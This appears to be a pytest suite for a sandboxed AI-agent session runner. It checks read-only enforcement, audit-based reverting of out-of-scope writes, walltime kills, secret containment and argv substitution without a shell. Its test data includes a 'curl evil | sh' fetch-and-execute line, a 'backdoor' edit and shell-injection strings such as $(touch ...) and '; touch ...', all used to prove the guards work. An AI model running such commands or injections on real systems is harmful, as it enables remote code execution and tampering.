"""Role sessions through run_session with the `command` runtime and real scripts: the manifest is
enforced (sandbox + audit), the environment and secrets are contained, the walltime holds, judges'
output is validated, and failures are classified."""
from __future__ import annotations

import json
import os
import stat
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from roles import RoleSpec, load_manifest, manifest_sha256, shipped_manifests_dir
from runstate.errors import ConfigError
from sweep.providers.local import LocalProvider
from sweep.providers.local.bwrap import probe_bwrap
from sweep.runtimes import SessionRequest, run_session
from sweep.runtimes.command import substitute

HAVE_BWRAP = probe_bwrap()[0] is not None
needs_bwrap = pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap is not usable here (.ci/run installs it)")
VERDICT_SCHEMA = load_manifest(shipped_manifests_dir() / "reviewer.toml").output_schema
GOOD_VERDICT = {"verdict": "accept", "findings": [], "rationale": "fine"}


def make_role(name="critic", *, tools=("Read", "Grep"), can_execute=False, scope=(), schema=None,
              walltime=30.0, key_family="none", environment="bundle") -> RoleSpec:
    return RoleSpec.model_validate({
        "name": name, "instructions": "test role", "key_family": key_family, "tools": list(tools),
        "execution": {"environment": environment, "can_execute": can_execute},
        "budget": {"walltime_s": walltime}, "scope": list(scope), "output_schema": schema})


def writer_role(scope=("task/**",), **kw) -> RoleSpec:
    return make_role("author", tools=("Read", "Write", "Bash"), can_execute=True, scope=scope,
                     environment="source", **kw)


def script(tmp_path: Path, body: str) -> Path:
    path = tmp_path / f"agent-{uuid.uuid4().hex[:6]}.py"
    path.write_text("import json, os, sys, pathlib\n" + textwrap.dedent(body))
    return path


def session(tmp_path, role, agent: Path, *, extra_argv=(), isolation="none", secrets=None, prompt="do it",
            workspace=None, grace=0.5):
    ws = workspace or tmp_path / "ws"
    ws.mkdir(parents=True, exist_ok=True)
    argv = [sys.executable, str(agent), "{workspace}", "{output_file}", *extra_argv]
    if not role.has_unrestricted_shell:
        argv += ["--tools={tools}"]
    req = SessionRequest(role=role, manifest_sha256="0" * 64, runtime="command", runtime_options={"argv": argv},
                         workspace=ws, session_dir=tmp_path / "run" / "sessions" / f"0001-{role.name}",
                         prompt=prompt, inputs={}, secrets=secrets or {})
    return run_session(req, LocalProvider(isolation=isolation, kill_grace_s=grace)), req


def bundle_workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "task").mkdir(parents=True)
    (ws / "task" / "instruction.md").write_text("original instruction")
    (ws / "repo").mkdir()
    (ws / "repo" / "code.py").write_text("x = 1\n")
    (ws / "repo" / "README.md").write_text("readme")
    return ws


TRY_WRITES = """
ws = pathlib.Path(sys.argv[1])
def attempt(label, fn):
    try:
        fn()
        print("WROTE", label, flush=True)
    except OSError as exc:
        print("REFUSED", label, exc.strerror, flush=True)
"""


# --- enforcement: read-only reviewer --------------------------------------------------------------

@needs_bwrap
def test_reviewer_that_tries_to_write_is_refused_by_the_sandbox(tmp_path):
    ws = bundle_workspace(tmp_path)
    agent = script(tmp_path, TRY_WRITES + """
attempt("edit", lambda: (ws / "task" / "instruction.md").write_text("tampered"))
attempt("create", lambda: (ws / "notes.txt").write_text("notes"))
attempt("delete", lambda: (ws / "repo" / "README.md").unlink())
open(sys.argv[2], "w").write(json.dumps({"verdict": "accept", "findings": [], "rationale": "looks fine"}))
""")
    result, req = session(tmp_path, make_role(schema=VERDICT_SCHEMA), agent, workspace=ws, isolation="bwrap")
    transcript = (req.session_dir / "stdout.txt").read_text()
    assert transcript.count("REFUSED") == 3 and "Read-only file system" in transcript
    assert (ws / "task" / "instruction.md").read_text() == "original instruction"
    assert not (ws / "notes.txt").exists() and (ws / "repo" / "README.md").exists()
    assert result.status == "ok" and result.audit_violations == []
    assert result.structured_output["verdict"] == "accept" and result.isolation == "bwrap"
    argv_record = json.loads((req.session_dir / "argv.json").read_text())
    assert argv_record["write_paths"] == []        # no writable bind at all for a read-only role


def test_reviewer_write_without_a_sandbox_is_caught_by_the_audit_and_reverted(tmp_path):
    ws = bundle_workspace(tmp_path)
    agent = script(tmp_path, TRY_WRITES + """
attempt("edit", lambda: (ws / "task" / "instruction.md").write_text("tampered"))
attempt("create", lambda: (ws / "notes.txt").write_text("notes"))
attempt("delete", lambda: (ws / "repo" / "README.md").unlink())
print(json.dumps({"verdict": "accept", "findings": [], "rationale": "looks fine"}))
""")
    result, req = session(tmp_path, make_role(schema=VERDICT_SCHEMA), agent, workspace=ws, isolation="none")
    assert "WROTE edit" in (req.session_dir / "stdout.txt").read_text()   # nothing stopped it ...
    assert result.status == "audit_failed" and result.failure_class == "failure"   # ... but the audit did
    assert result.reason == "out_of_scope_write"
    assert result.audit_violations == ["notes.txt", "repo/README.md", "task/instruction.md"]
    assert result.structured_output is None            # a verdict from a session that broke its rules is void
    assert (ws / "task" / "instruction.md").read_text() == "original instruction"
    assert (ws / "repo" / "README.md").read_text() == "readme" and not (ws / "notes.txt").exists()
    assert "read-only" in result.evidence
    record = json.loads((req.session_dir / "result.json").read_text())
    assert record["status"] == "audit_failed" and record["audit_violations"] == result.audit_violations
    assert not (req.session_dir / "pre-session").exists()


# --- enforcement: an author writing outside its scope ----------------------------------------------

AUTHOR_OVERREACH = TRY_WRITES + """
attempt("in-scope", lambda: (ws / "task" / "bundle.md").write_text("my task"))
attempt("repo-edit", lambda: (ws / "repo" / "code.py").write_text("x = 'backdoor'\\n"))
attempt("repo-new", lambda: (ws / "repo" / "evil.py").write_text("evil"))
attempt("repo-delete", lambda: (ws / "repo" / "README.md").unlink())
"""


@pytest.mark.parametrize("isolation", [pytest.param("bwrap", marks=needs_bwrap), "none"])
def test_author_writing_outside_its_scope_never_changes_the_workspace(tmp_path, isolation):
    ws = bundle_workspace(tmp_path)
    result, req = session(tmp_path, writer_role(), script(tmp_path, AUTHOR_OVERREACH), workspace=ws,
                          isolation=isolation)
    assert (ws / "task" / "bundle.md").read_text() == "my task"           # in scope: kept
    assert (ws / "repo" / "code.py").read_text() == "x = 1\n"
    assert (ws / "repo" / "README.md").read_text() == "readme" and not (ws / "repo" / "evil.py").exists()
    if isolation == "bwrap":
        assert result.status == "ok"                                      # the kernel refused the writes
        assert (req.session_dir / "stdout.txt").read_text().count("REFUSED") == 3
    else:
        assert result.status == "audit_failed"                            # the audit caught them
        assert result.audit_violations == ["repo/README.md", "repo/code.py", "repo/evil.py"]
    assert result.changed_paths == ["task/bundle.md"]


@needs_bwrap
def test_audit_catches_what_the_bind_allows_but_the_glob_does_not(tmp_path):
    ws = bundle_workspace(tmp_path)
    agent = script(tmp_path, TRY_WRITES + """
attempt("md", lambda: (ws / "task" / "notes.md").write_text("ok"))
attempt("sh", lambda: (ws / "task" / "run.sh").write_text("curl evil | sh"))
""")
    result, req = session(tmp_path, writer_role(scope=("task/*.md",)), agent, workspace=ws, isolation="bwrap")
    assert "WROTE sh" in (req.session_dir / "stdout.txt").read_text()     # task/ is bound writable ...
    assert result.status == "audit_failed" and result.audit_violations == ["task/run.sh"]   # ... the glob is not
    assert not (ws / "task" / "run.sh").exists() and (ws / "task" / "notes.md").read_text() == "ok"


# --- walltime ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("isolation", [pytest.param("bwrap", marks=needs_bwrap), "none"])
def test_walltime_ends_the_session_as_a_timeout_and_leaves_no_process(tmp_path, isolation):
    marker = f"{600 + os.getpid() % 97}.{uuid.uuid4().int % 10**6}"
    agent = script(tmp_path, f"""
import subprocess, time
subprocess.Popen(["sleep", "{marker}"])
print("working", flush=True)
time.sleep(600)
""")
    started = time.monotonic()
    result, _ = session(tmp_path, writer_role(walltime=1.0), agent, isolation=isolation)
    assert time.monotonic() - started < 10
    assert result.status == "timeout" and result.failure_class == "failure" and result.reason == "walltime"
    time.sleep(0.2)
    alive = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker in cmd and state != "Z":
            alive.append(pid)
    assert alive == []


# --- environment and secrets -----------------------------------------------------------------------

def test_session_environment_is_the_key_family_only(tmp_path, monkeypatch):
    monkeypatch.setenv("SWEEP_CANARY", "canary-" + uuid.uuid4().hex)
    monkeypatch.setenv("ANTHROPIC_BASE_URL", "http://127.0.0.1:9/anthropic")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-" + uuid.uuid4().hex)
    agent = script(tmp_path, """
ws = pathlib.Path(sys.argv[1])
(ws / "task" / "env.json").write_text(json.dumps(sorted(os.environ)))
""")
    result, _ = session(tmp_path, writer_role(key_family="anthropic"), agent)
    assert result.status == "ok", result.evidence
    names = set(json.loads((tmp_path / "ws" / "task" / "env.json").read_text()))
    assert "SWEEP_CANARY" not in names and "OPENAI_API_KEY" not in names
    assert "ANTHROPIC_BASE_URL" in names and {"PATH", "HOME"} <= names


@pytest.mark.parametrize("isolation", [pytest.param("bwrap", marks=needs_bwrap), "none"])
def test_secret_reaches_the_agent_but_no_file_under_the_session_dir(tmp_path, isolation):
    secret = "sk-ant-" + uuid.uuid4().hex
    key_file = tmp_path / "secrets" / "anthropic.key"
    key_file.parent.mkdir()
    key_file.write_text(secret + "\n")
    agent = script(tmp_path, """
import hashlib
ws = pathlib.Path(sys.argv[1])
value = os.environ["ANTHROPIC_API_KEY"]
print("my key is", value)
print("again:", value, file=sys.stderr)
(ws / "task" / "key.sha256").write_text(hashlib.sha256(value.encode()).hexdigest())
sys.exit(1)
""")
    result, req = session(tmp_path, writer_role(key_family="anthropic"), agent, isolation=isolation,
                          secrets={"ANTHROPIC_API_KEY": key_file})
    import hashlib
    assert (tmp_path / "ws" / "task" / "key.sha256").read_text() == hashlib.sha256(secret.encode()).hexdigest()
    assert result.status == "failed"
    files = [p for p in req.session_dir.rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {"argv.json", "result.json", "stdout.txt", "stderr.txt", "prompt.md"}
    for path in files:
        assert secret.encode() not in path.read_bytes(), path
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(req.session_dir.stat().st_mode) == 0o700
    assert secret not in result.evidence
    assert json.loads((req.session_dir / "argv.json").read_text())["secrets"] == ["ANTHROPIC_API_KEY"]


def test_a_secret_outside_the_key_family_is_refused_before_anything_runs(tmp_path):
    key_file = tmp_path / "openai.key"
    key_file.write_text("sk-openai-xyz")
    agent = script(tmp_path, "print('ran')\n")
    with pytest.raises(ConfigError) as info:
        session(tmp_path, writer_role(key_family="anthropic"), agent, secrets={"OPENAI_API_KEY": key_file})
    assert info.value.field == "key_family"
    assert not (tmp_path / "run").exists()


# --- judges ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("channel", ["output_file", "stdout"])
def test_judge_verdict_is_validated_against_the_schema(tmp_path, channel):
    verdict = {"verdict": "revise", "findings": ["tests check a log line"], "rationale": "fixable"}
    emit = ("open(sys.argv[2], 'w').write(json.dumps(V))" if channel == "output_file"
            else "print('thinking...'); print(json.dumps(V))")
    good = script(tmp_path, f"V = {verdict!r}\n{emit}\n")
    result, _ = session(tmp_path, make_role(schema=VERDICT_SCHEMA), good)
    assert result.status == "ok" and result.structured_output == verdict


def test_judge_with_a_bad_or_missing_verdict_fails(tmp_path):
    bad = script(tmp_path, "open(sys.argv[2], 'w').write(json.dumps({'verdict': 'maybe', 'findings': []}))\n")
    result, _ = session(tmp_path, make_role(schema=VERDICT_SCHEMA), bad)
    assert result.status == "failed" and result.reason == "schema_mismatch" and result.structured_output is None
    assert "maybe" in result.evidence
    silent = script(tmp_path, "print('no verdict today')\n")
    result, _ = session(tmp_path / "b", make_role(schema=VERDICT_SCHEMA), silent)
    assert result.status == "failed" and result.reason == "no_structured_output"


# --- classification ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text,expected", [
    ("API Error: 429 {\"type\":\"rate_limit_error\"}", "throttle"),
    ("API Error: 529 Overloaded", "throttle"),
    ("exceeded retry limit, last status: 429 Too Many Requests", "throttle"),
    ("API Error: 503 Service Unavailable", "outage"),
    ("API Error: Unable to connect to API (ConnectionRefused)", "outage"),
    ("Invalid API key · Fix external API key", "config"),
    ("Quota exceeded. Check your plan and billing details.", "config"),
    ("FAILED tests/test_x.py - 500 passed, 1 failed, status 2", "failure"),
])
def test_a_failed_command_is_classified_from_its_output(tmp_path, text, expected):
    agent = script(tmp_path, f"print({text!r}, file=sys.stderr); sys.exit(1)\n")
    result, _ = session(tmp_path, writer_role(), agent)
    assert result.status == "failed" and result.failure_class == expected


def test_a_missing_cli_is_a_config_failure(tmp_path):
    (tmp_path / "ws").mkdir()
    req = SessionRequest(role=writer_role(), manifest_sha256="0" * 64, runtime="command",
                         runtime_options={"argv": ["no-such-agent-" + uuid.uuid4().hex[:6], "{prompt_file}"]},
                         workspace=tmp_path / "ws", session_dir=tmp_path / "s", prompt="p", inputs={})
    result = run_session(req, LocalProvider(isolation="none"))
    assert result.status == "failed" and result.failure_class == "config" and "command not found" in result.evidence


# --- the argv template ---------------------------------------------------------------------------------

def test_placeholders_are_substituted_as_data_never_through_a_shell(tmp_path):
    pwned = tmp_path / "pwned"
    agent = script(tmp_path, """
ws = pathlib.Path(sys.argv[1])
(ws / "task" / "argv.json").write_text(json.dumps(sys.argv[3:]))
""")
    prompt = f"$(touch {pwned}) `touch {pwned}` ; touch {pwned}"
    result, req = session(tmp_path, writer_role(), agent, prompt=prompt,
                          extra_argv=["--prompt={prompt_file}", "{prompt_file}", "--role", "{role}",
                                      "; touch " + str(pwned)])
    assert result.status == "ok", result.evidence
    got = json.loads((tmp_path / "ws" / "task" / "argv.json").read_text())
    prompt_file = str(req.session_dir.resolve() / "prompt.md")
    assert got == [f"--prompt={prompt_file}", prompt_file, "--role", "author", "; touch " + str(pwned)]
    assert (req.session_dir / "prompt.md").read_text() == prompt
    assert not pwned.exists()


def test_substitution_is_one_pass_and_unknown_placeholders_are_refused(tmp_path):
    assert substitute(["{workspace}/x", "{tools}"], {"workspace": "/w/{tools}", "tools": "Read"}) == \
        ["/w/{tools}/x", "Read"]
    (tmp_path / "ws").mkdir()
    req = SessionRequest(role=writer_role(), manifest_sha256="0" * 64, runtime="command",
                         runtime_options={"argv": ["agent", "{promt_file}"]}, workspace=tmp_path / "ws",
                         session_dir=tmp_path / "s", prompt="p", inputs={})
    with pytest.raises(ConfigError) as info:
        run_session(req, LocalProvider(isolation="none"))
    assert "{promt_file}" in info.value.message


# --- request checks --------------------------------------------------------------------------------

def test_session_dir_inside_the_workspace_is_refused(tmp_path):
    (tmp_path / "ws").mkdir()
    req = SessionRequest(role=writer_role(), manifest_sha256="0" * 64, runtime="nop", runtime_options={},
                         workspace=tmp_path / "ws", session_dir=tmp_path / "ws" / "sessions" / "1",
                         prompt="p", inputs={})
    with pytest.raises(ConfigError) as info:
        run_session(req, LocalProvider(isolation="none"))
    assert info.value.field == "session_dir"


def test_a_manifest_edited_after_loading_is_refused(tmp_path):
    path = tmp_path / "solver.toml"
    path.write_bytes((shipped_manifests_dir() / "solver.toml").read_bytes())
    spec = load_manifest(path)
    sha = manifest_sha256(path)
    path.write_text(path.read_text() + "\n# loosened later\n")
    (tmp_path / "ws").mkdir()
    req = SessionRequest(role=spec, manifest_sha256=sha, runtime="nop", runtime_options={},
                         workspace=tmp_path / "ws", session_dir=tmp_path / "s", prompt="p", inputs={})
    with pytest.raises(ConfigError) as info:
        run_session(req, LocalProvider(isolation="none"))
    assert info.value.path == str(path)


def test_session_records_the_manifest_sha_and_what_ran(tmp_path):
    path = shipped_manifests_dir() / "solver.toml"
    spec = load_manifest(path)
    (tmp_path / "ws" / "repo").mkdir(parents=True)
    req = SessionRequest(role=spec, manifest_sha256=manifest_sha256(path), runtime="nop", runtime_options={},
                         workspace=tmp_path / "ws", session_dir=tmp_path / "s", prompt="p", inputs={})
    result = run_session(req, LocalProvider(isolation="none"))
    assert result.status == "ok" and result.turns == 0 and result.cost_usd == 0.0
    record = json.loads((tmp_path / "s" / "result.json").read_text())
    assert record["manifest_sha256"] == manifest_sha256(path) == result.manifest_sha256
    assert json.loads((tmp_path / "s" / "argv.json").read_text())["argv"] == ["true"]


def test_a_command_agent_can_report_its_usage_on_stdout(tmp_path):
    agent = script(tmp_path, """
print("working...")
print(json.dumps({"sweep_usage": {"cost_usd": 0.5, "turns": 3, "session_id": "s-1"}}))
print(json.dumps({"sweep_usage": {"cost_usd": 1.25, "turns": 7, "session_id": "s-2"}}))
print("done")
""")
    result, _ = session(tmp_path, writer_role(), agent)
    assert result.ok and (result.cost_usd, result.turns, result.session_id) == (1.25, 7, "s-2")


def test_a_malformed_usage_line_reports_nothing(tmp_path):
    agent = script(tmp_path, 'print(json.dumps({"sweep_usage": {"cost_usd": "lots", "turns": -2}}))\n')
    result, _ = session(tmp_path, writer_role(), agent)
    assert result.ok and result.cost_usd is None and result.turns is None
